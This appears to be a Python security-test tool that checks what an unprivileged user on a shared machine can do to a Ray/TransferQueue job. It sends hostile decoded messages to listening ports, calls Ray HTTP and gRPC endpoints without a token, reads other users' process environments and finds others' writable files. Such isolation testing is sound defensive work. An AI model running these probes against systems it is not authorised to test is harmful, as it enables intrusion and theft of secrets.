"""What another user of a machine can do to a job there. Prints what succeeded, as JSON.

    python stranger.py reach HOST:PORT ...              which accept a connection
    python stranger.py attack HEAD:PORT FILE FOLDER ... at all ports that listen here, and in these folders
    python stranger.py listen ADDRESS PORT SECONDS      what is sent to this port

`attack` sends a hostile message of TransferQueue's to each port, which makes FILE where it is decoded, asks each over HTTP for
Ray's jobs, and over gRPC, and the head for its nodes, without a token, and reads what it may of processes and files.
"""

import json
import os
import socket
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPConnection, HTTPException
from pathlib import Path

import grpc
from ray._raylet import GcsClient

from launch.slurm.reachable import LISTENS
from tests.verl_patches.hostile_message import send

NOBODY = 65534
METHODS = (  # one of each kind of Ray's processes
    "NodeInfoGcsService/GetAllNodeInfo",
    "NodeManagerService/GetNodeStats",
    "ObjectManagerService/FreeObjects",
    "CoreWorkerService/GetCoreWorkerStats",
    "RayletDriver/Init",
    "ReporterService/GetTraceback",
)


def reach(places: list[str]) -> list[str]:
    found = []
    for place in places:
        host, _, port = place.rpartition(":")
        try:
            socket.create_connection((host, int(port)), timeout=2).close()
            found.append(place)
        except OSError:
            pass
    return found


def ports() -> list[int]:
    """All that listen on this machine."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            _, local, _, state, *_ = line.split()
            if state == LISTENS:
                found.add(int(local.rpartition(":")[2], 16))
    return sorted(found)


def answered(address: str, port: int, path: str) -> str | None:
    """The status of an answer over HTTP, or what it gives away."""
    connection = HTTPConnection(address, port, timeout=2)
    try:
        connection.request("GET", path)
        answer = connection.getresponse()
        return ("numbers" if answer.read(6) == b"# HELP" else "an answer") if answer.status == 200 else str(answer.status)
    except (OSError, HTTPException):
        return None
    finally:
        connection.close()


def said_by_ray(address: str, port: int) -> str | None:
    """The status of the first of METHODS that is one of this port's, without a token."""
    with grpc.insecure_channel(f"{address}:{port}") as channel:
        for method in METHODS:
            try:
                channel.unary_unary(f"/ray.rpc.{method}")(b"", timeout=3)
                return "OK"
            except grpc.RpcError as error:
                status = error.code().name
                if status != "UNIMPLEMENTED":
                    return status
    return None


def ray_nodes(address: str, port: int) -> bool:
    try:
        return bool(GcsClient(address=f"{address}:{port}").get_all_node_info(timeout=2))
    except Exception:
        return False


def environments() -> list[str]:
    """The processes of others whose environment can be read."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            if process.stat().st_uid != os.getuid() and (process / "environ").read_bytes():
                found.append((process / "cmdline").read_text())
        except OSError:
            pass
    return found


def files(folders: list[str]) -> list[str]:
    """What can be read or written in these folders and is another's."""
    found = []
    for folder in folders:
        for parent, _, names in os.walk(folder):
            paths = [parent, *(os.path.join(parent, name) for name in names)]
            found += [path for path in paths if os.stat(path).st_uid != os.getuid() and os.access(path, os.R_OK | os.W_OK)]
    return found


def attack(head: str, file: str, folders: list[str]) -> dict:
    address, _, port = head.rpartition(":")
    listening = ports()
    with ThreadPoolExecutor(max_workers=8) as pool:
        list(pool.map(lambda each: send(address, each, file), listening))
        statuses = dict(zip(listening, pool.map(lambda each: answered(address, each, "/api/jobs/"), listening), strict=True))
        rpcs = dict(zip(listening, pool.map(lambda each: said_by_ray(address, each), listening), strict=True))
    return {
        "ports": listening,
        "ray": {each: status for each, status in rpcs.items() if status},
        "nodes": ray_nodes(address, int(port)),
        "jobs": {each: status for each, status in statuses.items() if status},
        "environments": environments(),
        "files": files(folders),
    }


def listen(address: str, port: int, seconds: float) -> str:
    """Accept, answer nothing, and keep all that comes."""
    got, deadline = b"", time.monotonic() + seconds
    with socket.create_server((address, port)) as server:
        print("listening", flush=True)
        server.settimeout(0.2)
        while time.monotonic() < deadline:
            try:
                connection, _ = server.accept()
                connection.settimeout(0.5)
                got += b"connected "
                while more := connection.recv(65536):
                    got += more
            except OSError:
                continue
    return got.decode(errors="replace")


def main() -> None:
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    for name in [name for name in os.environ if name.startswith("RAY_")]:
        del os.environ[name]
    what, *arguments = sys.argv[1:]
    if what == "reach":
        result = reach(arguments)
    elif what == "attack":
        result = attack(arguments[0], arguments[1], arguments[2:])
    else:
        result = listen(arguments[0], int(arguments[1]), float(arguments[2]))
    print(json.dumps(result))


if __name__ == "__main__":
    main()
